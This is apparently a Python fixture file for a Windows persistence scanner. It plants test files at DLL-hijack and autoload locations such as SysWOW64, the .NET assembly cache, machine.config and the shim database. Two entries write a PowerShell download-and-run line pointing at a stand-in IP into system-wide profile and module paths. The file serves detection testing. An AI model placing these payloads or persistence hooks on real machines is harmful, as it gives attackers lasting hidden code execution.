"""Files of Windows that no entry names: programs known by their contents, and others that carry code."""
from windows_disk import *

change = Changes()
START = 'WIN-PERSIST-001'
GAC = r'Windows\Microsoft.NET\assembly\GAC_MSIL\Evil\v4.0_1.0.0.0__0123456789abcdef\Evil.dll'


def file(name, why, path):
    change.row(name, why, START, path.rpartition('\\')[2], lambda d: d.foreign(path))


def text(name, why, path, data):
    change.row(name, why, START, path.rpartition('\\')[2], lambda d: d.put(path, data))


file('library-of-the-32-bit-system', 'Programs of 32 bits load this library from SysWOW64.', r'Windows\SysWOW64\kernel32.dll')
file('library-that-a-service-looks-for', 'The update orchestrator loads this library by its name; no Server 2019 has it.', r'Windows\System32\WindowsCoreDeviceInfo.dll')
file('library-under-another-ending', 'LoadLibrary asks for a PE image, not for an ending.', r'Windows\System32\msupd.dat')
file('library-side-by-side', 'Explorer loads comctl32.dll from the store of side-by-side assemblies.',
     r'Windows\WinSxS\amd64_microsoft.windows.common-controls_6595b64144ccf1df_6.0.17763.1_none_8f03b9f1\comctl32.dll')
file('assembly-of-the-cache', 'The runtime of .NET looks for assemblies in this cache before anywhere else.', GAC)
change.row('library-beside-the-installer', 'TrustedInstaller lies in this folder and looks for its libraries there first.', 'WIN-PERSIST-003', 'wdscore.dll',
           lambda d: d.foreign(r'Windows\servicing\wdscore.dll'))
file('library-beside-setup', 'Programs of the first start lie in this folder.', r'Windows\System32\oobe\dui70.dll')
text('configuration-of-the-machine', 'machine.config holds for every managed program: it names an assembly that is loaded before each.',
     r'Windows\Microsoft.NET\Framework64\v4.0.30319\Config\machine.config',
     '<configuration><runtime><appDomainManagerType value="E.M"/><appDomainManagerAssembly value="Evil, Version=1.0.0.0"/></runtime></configuration>')
text('profile-of-the-ise', 'The editor of PowerShell runs this profile of all users.',
     r'Windows\System32\WindowsPowerShell\v1.0\Microsoft.PowerShellISE_profile.ps1', 'iex (iwr http://203.0.113.7/a)')
text('module-of-the-system', 'Modules in the documents of the system come first for its scripts.',
     r'Windows\System32\config\systemprofile\Documents\WindowsPowerShell\Modules\Storage\Storage.psm1', 'iex (iwr http://203.0.113.7/a)')
text('database-of-shims', 'sysmain.sdb may have libraries loaded into any program.', r'Windows\AppPatch\sysmain.sdb', b'\2\0\0\0\1\0\0\0sdbf' + bytes(64))
